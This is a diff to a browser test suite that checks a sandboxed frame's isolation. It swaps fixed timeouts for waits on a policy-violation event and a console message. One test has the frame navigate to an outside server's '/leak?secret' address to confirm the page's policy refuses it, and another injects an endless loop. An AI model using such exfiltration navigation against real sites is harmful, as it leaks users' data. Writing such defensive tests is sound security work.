@@ -268,20 +268,27 @@ test("the frame's document reaches neither the page nor the network", async () =
   expect(tried).toEqual(["refused", "refused", "refused", "refused", "refused"])
   expect(await frame?.evaluate(() => origin)).toBe("null")
   // A frame that navigates itself could carry data in the address; the page's policy refuses the address.
+  const refusal = page.evaluate(
+    () =>
+      new Promise<string>((told) =>
+        document.addEventListener("securitypolicyviolation", (event) => told(event.effectiveDirective), { once: true }),
+      ),
+  )
   await frame?.evaluate((origin) => {
     location.href = `${origin}/leak?secret`
   }, outside.origin)
-  await page.waitForTimeout(500)
+  expect(await refusal).toBe("frame-src")
   expect(outside.arrived).toEqual([])
 })
 
 test("throwing the sandbox away ends an endless loop, and another one starts", async () => {
   await page.goto(served.address)
   await page.waitForFunction(() => window.attackable?.heard.length > 0)
+  const begins = page.waitForEvent("console", (message) => message.text() === "begun")
   await page.evaluate(() => {
-    void window.attackable.attack("for (;;) {}")
+    void window.attackable.attack(`console.log("begun"); for (;;) {}`)
   })
-  await page.waitForTimeout(100)
+  await begins
   expect(page.workers()).toHaveLength(1)
   const begun = Date.now()
   await page.evaluate(() => window.attackable.dispose())
